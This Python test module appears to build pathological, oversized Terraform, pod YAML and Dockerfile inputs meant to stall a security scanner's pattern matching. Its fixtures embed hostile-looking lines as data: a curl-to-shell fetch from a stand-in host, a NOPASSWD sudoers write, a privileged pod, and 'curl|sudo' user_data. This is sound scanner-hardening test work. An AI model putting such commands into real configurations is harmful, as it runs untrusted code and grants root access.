"""The start of something, what goes on without end, and another end than was looked for: patterns try all ways of it."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.attack import POD, Attack, Files, Parts

_FLAW = POD + "      securityContext: {privileged: true}\n"


def in_process() -> Iterator[Attack]:
    for name, files in _quick():
        yield Attack(f"starts-{name}", lambda files=files: files)  # type: ignore[misc]


def _quick() -> Iterator[tuple[str, Files]]:
    """Each held a scan up for minutes, or for good."""
    secret = "token" + "0" * 40 + "x", "token" + "_plain_text" * 30 + "_x", "passw" * 200_000 + "0x"
    for number, word in enumerate(secret):
        yield f"tf-secret-{number}", {"main.tf": f'variable "{word}" {{\n  default = "a"\n}}\n'}
    yield "tf-tabs", {"main.tf": 'resource "a" "b" {\na=' + "\t" * 1_000_000 + "x\n}\n"}
    names = "_" * 200 + "x", "a_" * 100, "e2e" * 60, "test-stub" + "_" * 200
    yield "folders", {f"{name}/pod.yaml": _FLAW for name in names}
    yield "pod-prints", _pod("command: [python, -c, 'import a;" + "print()" * 60 + "x;y']")
    yield "pod-release", _pod("command: [sh, -c, 'curl http://x/0.0" + "0" * 500_000 + "a.sh | sh']")
    yield "pod-examples", _pod('env: [{name: HF_TOKEN, value: "' + "example" * 200_000 + '\\n"}]')
    yield "pod-remarks", _pod("env: [{name: OPENAI_API_KEY, value: '" + "<" * 1_000_000 + "'}]")
    yield "pod-variable", _pod("a: $A" + "0" * 500_000 + " {{ x }}\n      b: [")


def _pod(rest: str) -> Files:
    return {"bad.yaml": f"{POD}      {rest}\n"}


def by_command() -> Parts:
    def dockerfile(rest: str) -> Files:
        return {"Dockerfile": f"FROM alpine:latest\n{rest}\n"}

    yield "starts-sudo", dockerfile("RUN echo 'a NOPASSWD" + " " * 500_000 + "x' >> /etc/sudoers")
    yield "starts-quoted-variables", dockerfile('RUN echo "' + "$ab" * 50)
    runfile = "cuda_a_linuxa" * 100_000
    yield "starts-runfile", dockerfile(f"RUN sh {runfile}/x.run\nRUN {runfile}+")
    yield "starts-remote-code", dockerfile("RUN python x.py --trust-remote-code" + " " * 500_000 + "x")
    yield "starts-weights", dockerfile("COPY " + "pytorch_model" * 200_000 + " /x")
    yield "starts-python", dockerfile("RUN python -c '" + "A\u00e9" * 300_000 + "'")
    yield "starts-curlrc", dockerfile("COPY <<EOF /root/.curlrc\n" + "\n" * 1_000_000 + "x\nEOF")
    yield (
        "starts-devices",
        {
            "compose.yaml": 'services:\n  a:\n    image: b\n    volumes: ["/dev/nvidia'
            + "/a" * 300_000
            + '\\n:/x"]\n'
        },
    )
    script = "curl|sudo -~ " * 7_000
    yield (
        "starts-user-data",
        {"main.tf": f'resource "aws_instance" "a" {{\n  user_data = "{script}"\n}}\n'},
    )
